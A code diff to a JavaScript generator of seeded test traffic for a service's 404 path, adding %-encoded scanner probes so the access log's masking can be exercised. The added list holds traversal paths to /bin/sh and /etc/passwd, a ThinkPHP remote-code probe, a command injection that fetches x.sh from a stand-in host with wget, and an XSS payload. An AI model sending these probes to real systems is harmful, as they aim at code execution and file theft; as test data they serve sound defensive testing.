@@ -1,6 +1,7 @@
 // The realistic request mix: what a public service's 404 path sees in a day, as distinct requests
-// (scanner probes, crawler and browser paths), five kinds of Accept, a Referer on a third, varied
-// user agents. Deterministic for a seed, so every server of a run and every run get the same list.
+// (scanner probes, some %-encoded as path-traversal and injection probes are, crawler and browser
+// paths), five kinds of Accept, a Referer on a third, varied user agents. Deterministic for a seed,
+// so every server of a run and every run get the same list.
 
 /** A small seeded generator (mulberry32): the same seed gives the same mix. */
 function randomFor(seed) {
@@ -19,6 +20,10 @@ const SCANNER_PATHS = [
   '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/actuator/health',
   '/server-status', '/config.json', '/.aws/credentials', '/owa/auth/logon.aspx', '/boaform/admin/formLogin',
   '/HNAP1/', '/solr/admin/info/system', '/.DS_Store', '/backup.zip', '/admin/config.php', '/api/v1/pods',
+  // %-encoded, as traversal and injection probes arrive: the access log's masking reads these.
+  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
+  '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array',
+  '/shell?cd+/tmp;wget+http%3A%2F%2F192.0.2.1%2Fx.sh', '/search.php?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
 ];
 const CRAWLER_PATHS = ['/robots.txt', '/sitemap.xml', '/favicon.ico', '/apple-touch-icon.png', '/.well-known/security.txt', '/ads.txt', '/humans.txt'];
 const WORDS = ['summer', 'linen', 'coffee', 'garden', 'winter', 'boots', 'lamp', 'poster', 'madrid', 'barcelona', 'vinyl', 'desk'];
@@ -57,7 +62,10 @@ export function requestMix(count = 4000, seed = 2026) {
   for (let i = 0; i < count; i++) {
     const kind = random();
     let path;
-    if (kind < 0.35) path = `${pick(SCANNER_PATHS)}${random() < 0.5 ? '' : `?${pick(WORDS)}=${i}`}`;
+    if (kind < 0.35) {
+      const probe = pick(SCANNER_PATHS);
+      path = `${probe}${random() < 0.5 ? '' : `${probe.includes('?') ? '&' : '?'}${pick(WORDS)}=${i}`}`;
+    }
     else if (kind < 0.5) path = `${pick(CRAWLER_PATHS)}${random() < 0.7 ? '' : `?v=${i}`}`;
     else if (kind < 0.7) path = `/products/${pick(WORDS)}-${pick(WORDS)}-${i}`;
     else if (kind < 0.85) path = `/blog/2026/${1 + (i % 12)}/${pick(WORDS)}-${i}`;
